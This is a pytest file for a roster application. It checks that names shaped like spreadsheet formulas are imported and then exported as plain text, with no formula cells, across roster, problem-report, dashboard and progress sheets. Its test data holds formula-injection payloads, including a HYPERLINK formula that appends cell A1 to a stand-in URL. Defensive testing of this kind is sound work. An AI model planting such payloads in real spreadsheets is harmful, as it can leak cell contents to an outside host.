"""Names that look like formulas go through a real import and come back out of every sheet as text."""

from __future__ import annotations

import csv
import datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from anju.core.audit import Actor
from anju.core.scoping import scope_of
from anju.dashboard import tables
from anju.domain.rostersheet import write_problem_report
from anju.domain.sheets import Provenance
from anju.programme import sheets as progress_sheets
from anju.roster.exporter import export_roster, export_target
from anju.roster.importer import import_roster
from anju.roster.models import Person
from tests.roster.test_import import HEADERS, snapshot

pytestmark = pytest.mark.django_db

PROVENANCE = Provenance("测试", datetime.datetime(2021, 5, 1, 9, 30, tzinfo=datetime.UTC), "测试.xlsx")
NAMES = ['=HYPERLINK("http://x.invalid/?"&A1,"点我")', "+1", "-2+3", "@SUM(1)"]


def formula_cells(path: Path) -> int:
    book = load_workbook(path)
    return sum(1 for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.data_type == "f")


def attack_roster(path: Path) -> Path:
    rows = [["甲社区", "甲小区", "3", "2", "", f"{n + 1}01", "60.5", name, "", "", "1955", "", "", "", "", name]
            for n, name in enumerate(NAMES)]
    with path.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows([HEADERS, *rows])
    return path


def test_formula_names_import_and_export_as_the_same_text(tmp_path, world, subdistrict_staff):
    actor, scope = Actor.of(subdistrict_staff), scope_of(subdistrict_staff)
    result = import_roster(attack_roster(tmp_path / "in.csv"), actor=actor, scope=scope)
    assert not result.problems and result.applied
    assert set(Person.objects.filter(name__in=NAMES).values_list("name", flat=True)) == set(NAMES)

    out = tmp_path / "out.xlsx"
    export_roster(scope=scope, target=export_target(scope, "compound", world.compound_a.pk), out=out, actor=actor)
    assert formula_cells(out) == 0
    sheet = load_workbook(out).worksheets[0]
    exported = {row[7].value: row[15].value for row in sheet.iter_rows(min_row=2)}
    assert all(exported[name] == name for name in NAMES)
    # And the export imports back as a no-op, through calamine.
    before = snapshot()
    again = import_roster(out, actor=actor, scope=scope)
    assert not again.problems and again.unchanged == 5 and snapshot()[:3] == before[:3]


def test_the_problem_report_copies_formula_shaped_cells_as_text(tmp_path, world, subdistrict_staff):
    source = attack_roster(tmp_path / "bad.csv")
    text = source.read_text(encoding="utf-8").replace("60.5", "sixty", 1)  # one bad area: a report is written
    source.write_text(text, encoding="utf-8")
    result = import_roster(source, actor=Actor.of(subdistrict_staff), scope=scope_of(subdistrict_staff), dry_run=True)
    assert result.problems
    report = tmp_path / "report.xlsx"
    write_problem_report(source, result.problems, report, provenance=PROVENANCE)
    assert formula_cells(report) == 0
    copied = [c.value for row in load_workbook(report).worksheets[1].iter_rows() for c in row]
    assert all(name in copied for name in NAMES)


def test_dashboard_and_progress_sheets_write_formula_shaped_text_as_text(tmp_path):
    table = tables.Table("悬空老人", ["小区", "户", "姓名", "年龄"], source=NAMES, row=lambda n: (["甲小区", "3栋1单元501室", n, -2], None))
    dashboard = tmp_path / "dashboard.xlsx"
    dashboard.write_bytes(tables.to_xlsx(table, table.lines(), provenance=PROVENANCE))
    assert formula_cells(dashboard) == 0
    assert [r[2] for r in load_workbook(dashboard).active.iter_rows(min_row=2, values_only=True)] == NAMES
    assert [r[3] for r in load_workbook(dashboard).active.iter_rows(min_row=2, values_only=True)] == [-2] * 4
    progress = tmp_path / "progress.xlsx"
    progress.write_bytes(progress_sheets.progress_template([(n, n, 30) for n in NAMES], provenance=PROVENANCE))
    assert formula_cells(progress) == 0
    assert [(r[1], r[2]) for r in progress_sheets.read_progress_sheet(progress.read_bytes())] == [(n, n) for n in NAMES]
